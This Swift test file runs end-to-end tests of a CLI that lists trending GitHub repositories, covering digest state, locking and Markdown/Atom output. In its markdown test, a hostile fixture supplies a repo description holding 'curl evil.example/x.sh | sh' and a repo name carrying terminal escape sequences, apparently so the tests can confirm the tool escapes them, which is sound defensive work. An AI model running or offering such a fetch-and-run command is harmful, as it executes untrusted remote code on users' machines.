import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import Testing
import TrendingTestSupport

/// `--new-only`, `--format markdown` and `--format atom`, run as cron would run them.
@Suite("digests and feeds, end to end")
struct DigestEndToEndTests {
    @Test("--new-only fills past seen repos, and those shown become seen")
    func newOnlyFills() async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }

        let first = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "tsv"])
        let next = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--new-only", "--format", "tsv"])
        let after = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--new-only", "--json"])

        #expect(first.status == 0 && next.status == 0 && after.status == 0)
        #expect(names(tsv: first.stdout) == ["octo-org/rocket", "lowtide/vortex-flow", "quinfelny-io/relay-cli"])
        let nextNames = names(tsv: next.stdout)
        #expect(nextNames.count == 3 && Set(nextNames).isDisjoint(with: names(tsv: first.stdout)), "three new ones, past the seen")
        let afterNames = try Sandbox.objects(after).compactMap { $0["full_name"] as? String }
        #expect(afterNames.count == 3 && Set(afterNames).isDisjoint(with: nextNames + names(tsv: first.stdout)), "shown ones became seen")
        #expect(server.requests.map { query($0.target, "per_page") } == ["3", "6", "9"], "the limit plus those seen since the period began")
    }

    @Test("a --new-only digest that could not be written (a full disk, a closed stdout, a reader gone before the first byte) makes nothing seen: the next one lists its repos", arguments: ["full", "closed", "gone"])
    func undeliveredDigest(stdout: String) async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }
        let arguments = ["--api-url", server.baseURL, "--limit", "3", "--new-only", "--format", "tsv"]

        let handle: FileHandle
        if stdout == "full" {
            handle = try #require(FileHandle(forWritingAtPath: "/dev/full"))
        } else if stdout == "gone" {
            let pipe = Pipe()
            try? pipe.fileHandleForReading.close()
            handle = pipe.fileHandleForWriting
        } else {
            handle = Pipe().fileHandleForReading
        }
        let failed = try await sandbox.run(arguments, stdout: handle)
        let next = try await sandbox.run(arguments)

        #expect(failed.status == (stdout == "gone" ? 0 : 74), "a closed pipe is no error: \(failed.stderr)")
        #expect(next.status == 0)
        #expect(names(tsv: next.stdout) == ["octo-org/rocket", "lowtide/vortex-flow", "quinfelny-io/relay-cli"], "\(next.stdout)")
    }

    @Test("a --new-only digest whose state folder cannot be made lists nothing and exits 74, rather than the same repos on every run; a plain list goes on")
    func stateCannotBeRecorded() async throws {
        let (sandbox, server) = try makeSUT([.search(), .search()])
        defer { sandbox.remove(); server.stop() }
        // A file where the state folder's parent should be: the folder can never be made (as a
        // read-only HOME under cron is for a user who is not root).
        let blocked = sandbox.root.appendingPathComponent("not-a-folder")
        try Data("x".utf8).write(to: blocked)
        let state = ["XDG_STATE_HOME": blocked.path]
        let arguments = ["--api-url", server.baseURL, "--limit", "3", "--format", "tsv"]

        let digest = try await sandbox.run(arguments + ["--new-only"], extra: state)
        let plain = try await sandbox.run(arguments, extra: state)

        #expect(digest.status == 74 && digest.stdout.isEmpty, "\(digest.stdout)")
        #expect(digest.stderr.hasPrefix("error: Could not record what this digest shows\n"), "\(digest.stderr)")
        #expect(digest.stderr.contains("so it lists nothing rather than the same repos on every run"), "\(digest.stderr)")
        #expect(plain.status == 0 && names(tsv: plain.stdout).count == 3, "\(plain.stderr)")
    }

    @Test("a digest whose state lock is a symbolic link lists nothing and asks nothing, exit 74 (bb33 m-D1); one that lists but cannot record says so as an error (m-D4)")
    func stateLockRefused() async throws {
        let (sandbox, server) = try makeSUT([.search(), .search()])
        defer { sandbox.remove(); server.stop() }
        let arguments = ["--api-url", server.baseURL, "--limit", "3", "--format", "tsv", "--new-only"]
        try FileManager.default.createDirectory(at: sandbox.stateDirectory, withIntermediateDirectories: true)
        let lock = sandbox.stateDirectory.appendingPathComponent(".lock")
        try FileManager.default.createSymbolicLink(atPath: lock.path, withDestinationPath: sandbox.root.appendingPathComponent("elsewhere").path)

        let linked = try await sandbox.run(arguments)

        #expect(linked.status == 74 && linked.stdout.isEmpty, "\(linked.stdout)")
        #expect(linked.stderr.hasPrefix("error: Could not record what this digest shows\n"), "\(linked.stderr)")
        #expect(server.requests.isEmpty, "nothing asked of GitHub")

        // The state's lock held by another process past --timeout: listed, then it cannot record them: an error.
        try FileManager.default.removeItem(at: lock)
        let fd = open(lock.path, O_CREAT | O_RDWR, 0o600)
        defer { close(fd) }
        #expect(flock(fd, LOCK_EX) == 0)
        let unrecorded = try await sandbox.run(arguments + ["--timeout", "2"])
        #expect(unrecorded.status == 74 && !unrecorded.stdout.isEmpty, "\(unrecorded.stderr)")
        #expect(unrecorded.stderr.contains("error: Could not record what this digest listed\n"), "\(unrecorded.stderr)")
        #expect(unrecorded.stderr.contains("The next --new-only run lists these repos again."))
    }

    @Test("a digest started with no stdout at all (`>&-`) writes into no file it opens (its lock, the state), exits 74, and makes nothing seen")
    func noStdoutAtAll() async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }
        let arguments = ["--new-only", "--format", "tsv", "--limit", "3", "--api-url", server.baseURL]
        let environment = sandbox.environment
        let binary = BinaryRunner.executableURL(named: "trending").path

        let status: Int32 = try await offThePool {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/bin/sh")
            process.arguments = ["-c", #"exec "$0" "$@" >&-"#, binary] + arguments
            process.environment = environment
            process.standardError = FileHandle.nullDevice
            try process.run()
            process.waitUntilExit()
            return process.terminationStatus
        }
        let next = try await sandbox.run(arguments)

        #expect(status == 74)
        let lock = sandbox.stateDirectory.appendingPathComponent(".new-only.lock")
        #expect(((try? Data(contentsOf: lock)) ?? Data()).isEmpty, "the digest went into its lock")
        #expect(names(tsv: next.stdout) == ["octo-org/rocket", "lowtide/vortex-flow", "quinfelny-io/relay-cli"], "\(next.stdout)")
    }

    @Test("--new-only digests run at once take turns: each lists repos none of the others did")
    func concurrentDigests() async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }
        let arguments = ["--api-url", server.baseURL, "--limit", "2", "--new-only", "--format", "tsv"]

        async let first = sandbox.run(arguments)
        async let second = sandbox.run(arguments)
        async let third = sandbox.run(arguments)
        let results = try await [first, second, third]

        #expect(results.allSatisfy { $0.status == 0 }, "\(results.map(\.stderr))")
        let listed = results.flatMap { names(tsv: $0.stdout) }
        #expect(listed.count == 6 && Set(listed).count == 6, "no repo in two digests: \(listed)")
    }

    @Test("with nothing new: nothing at all for list, table, TSV and Markdown; [] for JSON; an empty feed for Atom; exit 0")
    func nothingNew() async throws {
        let (sandbox, server) = try makeSUT([.search("search/hostile.json")])
        defer { sandbox.remove(); server.stop() }
        _ = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6"])

        for format in ["list", "table", "tsv", "markdown"] {
            let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--format", format])
            #expect(result.status == 0 && result.stdout == "" && result.stderr == "", "\(format)")
        }
        let json = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--json"])
        let atom = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--format", "atom"])

        #expect(json.status == 0 && json.stdout == "[]\n" && json.stderr == "")
        #expect(atom.status == 0 && atom.stderr == "")
        let feed = try parseFeed(atom.stdout)
        #expect(feed.entries.isEmpty && feed.id == "tag:127.0.0.1,2026:trending?since=daily&new-only", "a loopback API base is its own site")
        // A floor of 0 is none: the same feed (bb44 y2-D1).
        let floorless = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--min-stars", "0", "--format", "atom"])
        #expect(try parseFeed(floorless.stdout).id == feed.id, "\(floorless.stdout)\(floorless.stderr)")
    }

    @Test("--new-only --offline with nothing new says nothing of a short cache: those left out were seen")
    func newOnlyOffline() async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }
        _ = try await sandbox.run(["--api-url", server.baseURL, "--limit", "5"])

        let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "5", "--new-only", "--offline", "--format", "tsv"])

        #expect(result.status == 0 && result.stdout == "")
        #expect(!result.stderr.contains("cached (asked for"), "\(result.stderr)")
    }

    @Test("--format markdown: one escaped item per repo, linked only to its page on the site")
    func markdown() async throws {
        let (sandbox, server) = try makeSUT([.search("search/hostile.json")])
        defer { sandbox.remove(); server.stop() }

        let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--format", "markdown"])

        #expect(result.status == 0 && result.stderr == "")
        // Items wrap at 100 columns onto indented lines; unwrapped, one line each (a `+` that
        // began a line keeps the backslash that stopped it opening a list).
        let wrapped = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(wrapped.allSatisfy { $0.count <= 100 && ($0.hasPrefix("- [") || $0.hasPrefix("  ")) })
        let lines = result.stdout.replacingOccurrences(of: "\n  ", with: " ").split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
        // A name GitHub does not allow shows what it hides, and links to its own page (the name
        // GitHub sent, percent-encoded, as --json's url and open give it), never another's.
        let first = String(lines.first ?? "")
        #expect(first.hasPrefix(#"- [mallory/evil\\u{1B}\[31mrepo]("# + server.baseURL + "/mallory/evil%1B%5B31mrepo) · ★ 6.7k · "), "\(first)")
        #expect(first.hasSuffix("24 h · Rust — Harmless formatter screen wiped"), "\(first.debugDescription)")
        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · \\+404 ★ in 24 h · Shell — curl evil.example/x.sh \\| sh Safe, audited installer. hidden del nulend"))
        #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
        let atom = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--format", "atom", "--offline"])
        let evil = try parseFeed(atom.stdout).entries.first { $0.title.hasPrefix("mallory/") }
        #expect(evil?.link == server.baseURL + "/mallory/evil%1B%5B31mrepo", "the Atom link is the same page: \(String(describing: evil))")
        #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
    }

    @Test("--format atom: a feed an XML parser reads, with every element RFC 4287 asks for")
    func atom() async throws {
        let (sandbox, server) = try makeSUT([.search()])
        defer { sandbox.remove(); server.stop() }

        let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "atom", "--language", "Swift", "--topic", "cli"])
        let again = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "atom", "--language", "Swift", "--topic", "cli"])

        #expect(result.status == 0 && result.stderr == "")
        let feed = try parseFeed(result.stdout)
        #expect(feed.id == "tag:127.0.0.1,2026:trending?since=daily&language=swift&topic=cli")
        #expect(feed.title == "Daily trending Swift repositories (topic cli) · " + server.baseURL.dropFirst("http://".count))
        #expect(feed.updated == "2026-11-23T12:00:00Z")
        #expect(feed.link.hasPrefix(server.baseURL + "/search?q=created%3A%3E%3D2026-11-22T12%3A00%3A00Z+language%3ASwift+topic%3Acli"))
        #expect(feed.hasAuthor)
        #expect(feed.entries.count == 3)
        let first = try #require(feed.entries.first)
        #expect(first.id == server.baseURL + "/octo-org/rocket" && first.title == "octo-org/rocket" && first.link == first.id)
        #expect(first.updated.hasSuffix("Z") && first.summary.hasPrefix("★ 9.8k · +9.8k ★ in 24 h · Swift — Launch-ready template"))
        #expect(try parseFeed(again.stdout).entries.map(\.id) == feed.entries.map(\.id), "the same repos, the same ids")
    }

    @Test("an Atom entry is updated when a list first showed the repo, not when it was created, and keeps that date")
    func atomEntryDates() async throws {
        let server = try LoopbackServer { _, _ in
            .json(200, Data(#"{"total_count":1,"incomplete_results":false,"items":[{"id":1,"name":"old","full_name":"o/old","owner":{"login":"o"},"html_url":"https://github.com/o/old","description":"Old","language":"Go","stargazers_count":5000,"forks_count":0,"created_at":"2021-02-25T08:00:00Z"}]}"#.utf8))
        }
        let sandbox = Sandbox()
        defer { sandbox.remove(); server.stop() }

        let first = try await sandbox.run(["--api-url", server.baseURL, "--format", "atom"], extra: ["TRENDING_NOW": "2026-11-23T12:00:00Z"])
        let later = try await sandbox.run(
            ["--api-url", server.baseURL, "--refresh", "--format", "atom"], extra: ["TRENDING_NOW": "2026-11-24T12:00:00Z"]
        )

        #expect(first.status == 0 && later.status == 0, "\(first.stderr) \(later.stderr)")
        let entry = try #require(try parseFeed(first.stdout).entries.first)
        #expect(entry.updated == "2026-11-23T12:00:00Z", "first shown now, not created in 2021")
        #expect(first.stdout.contains("<published>2021-02-25T08:00:00Z</published>"), "published stays the creation")
        let again = try #require(try parseFeed(later.stdout).entries.first)
        #expect(again.id == entry.id && again.updated == "2026-11-23T12:00:00Z", "a day later it keeps the day it first appeared")
    }

    @Test("Markdown and Atom show the gain once an earlier snapshot exists")
    func gains() async throws {
        let server = try LoopbackServer { _, index in
            let stars = 800 + 300 * index
            return .json(200, Data(#"{"total_count":1,"incomplete_results":false,"items":[{"id":1,"name":"bravo","full_name":"o/bravo","owner":{"login":"o"},"html_url":"https://github.com/o/bravo","description":"B","language":"Go","stargazers_count":\#(stars),"forks_count":0,"created_at":"2026-11-22T12:00:00Z"}]}"#.utf8))
        }
        let sandbox = Sandbox()
        defer { sandbox.remove(); server.stop() }
        let later = ["TRENDING_NOW": "2026-11-23T18:00:00Z"]

        _ = try await sandbox.run(["--api-url", server.baseURL])
        _ = try await sandbox.run(["--api-url", server.baseURL, "--refresh"], extra: later)
        let markdown = try await sandbox.run(["--api-url", server.baseURL, "--offline", "--format", "markdown"], extra: later)
        let atom = try await sandbox.run(["--api-url", server.baseURL, "--offline", "--format", "atom"], extra: later)

        #expect(markdown.stdout == "- [o/bravo](\(server.baseURL)/o/bravo) · ★ 1.1k · +300 ★ since 6h ago · Go — B\n")
        #expect(try parseFeed(atom.stdout).entries.first?.summary == "★ 1.1k · +300 ★ since 6h ago · Go — B")
    }

    // MARK: - Helpers

    @Test("--scope all is its own feed: its id and title say so")
    func atomScopeAll() async throws {
        let sandbox = Sandbox()
        let server = try LoopbackServer(handler: { request, _ in
            GitHubStandIn.route(request, search: { _ in GitHubStandIn.search([StandInRepo("old", stars: 900)]) }, history: { _, _ in
                GitHubStandIn.history(StarHistoryFixtures.twoWeeks)
            })
        })
        defer { sandbox.remove(); server.stop() }

        let result = try await sandbox.run(["--api-url", server.baseURL, "--scope", "all", "--since", "weekly", "--format", "atom"])

        #expect(result.status == 0, "\(result.stderr)")
        let feed = try parseFeed(result.stdout)
        #expect(feed.id == "tag:127.0.0.1,2026:trending?since=weekly&scope=all")
        #expect(feed.title == "Weekly trending repositories of any age · " + server.baseURL.dropFirst("http://".count))
        #expect(feed.link.hasPrefix(server.baseURL + "/search?q=pushed%3A%3E%3D"), "the site's nearest search: repos pushed in the period, \(feed.link)")
        #expect(feed.entries.count == 1)
    }

    private func makeSUT(_ responses: [StubResponse]) throws -> (Sandbox, LoopbackServer) {
        (Sandbox(), try LoopbackServer(responses: responses))
    }

    private func names(tsv: String) -> [String] {
        tsv.split(separator: "\n").dropFirst().map { String($0.split(separator: "\t", omittingEmptySubsequences: false)[1]) }
    }

    private func query(_ target: String, _ name: String) -> String? {
        URLComponents(string: target)?.queryItems?.first { $0.name == name }?.value
    }

    private struct Feed {
        struct Entry { let id, title, link, updated, summary: String }
        let id, title, updated, link: String
        let hasAuthor: Bool
        let entries: [Entry]
    }

    /// Parses with an XML parser and reads the elements RFC 4287 requires.
    private func parseFeed(_ xml: String) throws -> Feed {
        #if canImport(FoundationXML) || os(macOS)
        // corelibs' XMLDocument crashes on empty input rather than throwing.
        try #require(!xml.isEmpty)
        let document = try XMLDocument(data: Data(xml.utf8))
        let root = try #require(document.rootElement())
        #expect(root.name == "feed" && root.uri == "http://www.w3.org/2005/Atom")
        func text(_ element: XMLElement, _ name: String) throws -> String {
            let children = element.elements(forName: name)
            #expect(children.count == 1, "exactly one \(name)")
            return try #require(children.first?.stringValue)
        }
        // corelibs' attribute(forName:) misses attributes of namespaced elements; the list has them.
        func attribute(_ element: XMLElement, _ name: String) -> String? {
            element.attributes?.first { $0.name == name }?.stringValue
        }
        func link(_ element: XMLElement) throws -> String {
            let alternate = element.elements(forName: "link").first { attribute($0, "rel") == "alternate" }
            return try #require(alternate.flatMap { attribute($0, "href") })
        }
        let entries = try root.elements(forName: "entry").map { entry in
            Feed.Entry(id: try text(entry, "id"), title: try text(entry, "title"), link: try link(entry),
                       updated: try text(entry, "updated"), summary: try text(entry, "summary"))
        }
        return Feed(id: try text(root, "id"), title: try text(root, "title"), updated: try text(root, "updated"),
                    link: try link(root), hasAuthor: !root.elements(forName: "author").isEmpty, entries: entries)
        #else
        throw CocoaError(.featureUnsupported)
        #endif
    }
}
